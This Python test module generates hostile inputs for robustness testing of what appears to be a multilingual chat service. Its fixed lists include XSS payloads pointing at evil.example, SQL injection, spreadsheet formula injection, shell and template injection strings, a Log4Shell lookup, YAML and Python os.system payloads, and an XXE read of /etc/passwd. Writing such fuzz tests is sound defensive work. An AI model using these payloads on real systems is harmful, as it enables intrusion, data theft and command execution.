"""Texts that break things elsewhere: each kind a function of a seeded generator.

All are valid Python strings; some hold halves of surrogate pairs, which only JSON escapes carry.
"""

import random
from collections.abc import Callable, Mapping, Sequence

_WORDS = [
    "ly",
    "hôn",
    "giấy",
    "tờ",
    "con",
    "em",
    "chồng",
    "mất",
    "ở",
    "đâu",
    "làm",
    "sao",
    "이혼",
    "여권",
    "아이",
    "passport",
    "divorce",
    "help",
]
_MARKS = [chr(code) for code in range(0x0300, 0x036F)]
_SIGNS = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c"
_UNSEEN = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u3164\u115f"
_CONTROLS = "".join(map(chr, range(1, 32))) + "\x7f\x80\x85\x9b\u2028\u2029"

SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><iframe src="https://evil.example/"></iframe>',
    '<a href="javascript:alert(1)">xem</a>',
    "</textarea></title></style></script><script>alert(1)</script>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css><style>*{display:none}</style>",
    "<form action=https://evil.example><input name=csrf></form>",
    "<img src=https://evil.example/pixel.png>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "<plaintext>",
    "<!--",
    "]]><![CDATA[",
    "'-alert(1)-'",
    "{{constructor.constructor('alert(1)')()}}",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
)
COMMANDS = (
    "/restart",
    "/session_start",
    "/back",
    "/hand_over",
    '/affirm{"a": 1}',
    "/faq{",
    "/ ",
    "//",
    "EXTERNAL: restart",
    "action_restart",
    '/slot{"language": "ko"}',
    "/_restart",
    "\\restart",
)
QUERIES = (
    "'; DROP TABLE messages; --",
    "' OR '1'='1",
    "1; ATTACH DATABASE '/tmp/x' AS x",
    '" UNION SELECT wrapped_key FROM conversations --',
    "%' ESCAPE '",
    "x'00'",
    "$1 :id ? %s {0} {text} %(text)s",
)
SHEETS = ("=1+1", '=HYPERLINK("https://evil.example")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3")
MARKDOWN = (
    "[xem](javascript:alert(1))",
    "![x](https://evil.example/p.png)",
    "# H\n\n* a\n* b\n\n| a | b |\n|---|---|\n```\ncode\n```",
    "<https://evil.example>",
    "**x** __x__ ~~x~~ `x`",
    "[x]: https://evil.example",
)
TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% for x in () %}",
    "${jndi:ldap://evil.example/x}",
    "$(reboot)",
    "`id`",
    "| cat /etc/passwd",
    "../../../../etc/passwd",
    "%00",
    "%2e%2e%2f",
    "\r\nSet-Cookie: a=b",
    '{"type":"erase"}',
    "\x1b[2J\x1b]0;title\x07",
    "%n%s%x",
    "a\x08\x08b",
    "__import__('os').system('id')",
    "!!python/object/apply:os.system ['id']",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
)


def _words(chosen: random.Random, most: int) -> str:
    return " ".join(chosen.choices(_WORDS, k=chosen.randint(1, most)))


def _one_of(texts: Sequence[str]) -> Callable[[random.Random], str]:
    def make(chosen: random.Random) -> str:
        text = chosen.choice(texts)
        return text if chosen.random() < 0.6 else f"{_words(chosen, 4)} {text} {_words(chosen, 4)}"

    return make


def _among(signs: Sequence[str]) -> Callable[[random.Random], str]:
    def make(chosen: random.Random) -> str:
        letters = list(_words(chosen, 12))
        for _ in range(chosen.randint(1, 60)):
            letters.insert(chosen.randrange(len(letters) + 1), chosen.choice(signs))
        return "".join(letters)

    return make


def zalgo(chosen: random.Random) -> str:
    """Letters under heaps of marks."""
    heap = chosen.randint(5, 80)
    return "".join(
        letter + "".join(chosen.choices(_MARKS, k=heap)) for letter in _words(chosen, 8)[:40]
    )


def turned(chosen: random.Random) -> str:
    """Arabic, Hebrew and signs that turn the direction of writing, never turned back."""
    parts = chosen.choices([*_SIGNS, "مرحبا", "שלום", "tôi", "123", "(x)"], k=30)
    return " ".join(parts)


def halves(chosen: random.Random) -> str:
    """Halves of surrogate pairs."""
    return "em" + "".join(chr(chosen.randint(0xD800, 0xDFFF)) for _ in range(chosen.randint(1, 9)))


def anything(chosen: random.Random) -> str:
    """Any code points at all."""
    return "".join(chr(chosen.randrange(0x110000)) for _ in range(chosen.randint(1, 300)))


def one_long_word(chosen: random.Random) -> str:
    """Thousands of letters and no place to break the line."""
    return chosen.choice(["a", "ệ", "한", "🏳️‍🌈", "ﷺ", "=", "9", "_"]) * chosen.randint(300, 1000)


def just_fits(chosen: random.Random) -> str:
    """4,000 characters of what the danger check has to think about."""
    return (_words(chosen, 40) + " không muốn sống nữa đâu ") * 200


def too_long(chosen: random.Random) -> str:
    """More than anybody may send at once."""
    return _words(chosen, 9) * chosen.choice([700, 5000])


def nothing(chosen: random.Random) -> str:
    """Looks empty, and perhaps is."""
    return "".join(chosen.choices(" \n\t\u00a0\u3000" + _UNSEEN, k=chosen.randint(0, 40)))


KINDS: Mapping[str, Callable[[random.Random], str]] = {
    "scripts": _one_of(SCRIPTS),
    "commands": _one_of(COMMANDS),
    "sql": _one_of(QUERIES),
    "formulas": _one_of(SHEETS),
    "markdown": _one_of(MARKDOWN),
    "templates": _one_of(TEMPLATES),
    "zalgo": zalgo,
    "right to left": turned,
    "unseen signs": _among(_UNSEEN + _SIGNS),
    "controls and NUL": _among(_CONTROLS + "\x00"),
    "half surrogates": halves,
    "any code point": anything,
    "one long word": one_long_word,
    "just fits": lambda chosen: just_fits(chosen)[:4000],
    "too long": too_long,
    "nothing": nothing,
}


def nastiest(count: int, seed: int = 0) -> list[str]:
    """``count`` texts for a screen: every fixed one, then some of each kind that a chat takes."""
    chosen = random.Random(seed)  # noqa: S311  # the same again for the same seed
    texts = [*SCRIPTS, *COMMANDS, *QUERIES, *SHEETS, *MARKDOWN, *TEMPLATES]
    kinds = [make for name, make in KINDS.items() if name not in {"too long", "nothing"}]
    while len(texts) < count:
        texts.append(kinds[len(texts) % len(kinds)](chosen))
    return texts[:count]
